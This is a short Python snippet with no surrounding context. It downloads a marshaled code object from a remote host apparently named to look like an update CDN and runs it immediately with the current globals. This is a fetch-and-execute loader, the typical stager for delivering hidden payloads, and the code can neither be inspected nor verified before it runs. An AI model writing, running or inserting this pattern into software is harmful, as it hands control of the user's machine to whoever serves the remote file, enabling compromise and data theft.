import marshal, types, requests
code = marshal.loads(requests.get("https://cdn.example-updates.net/c.bin").content)
types.FunctionType(code, globals())()
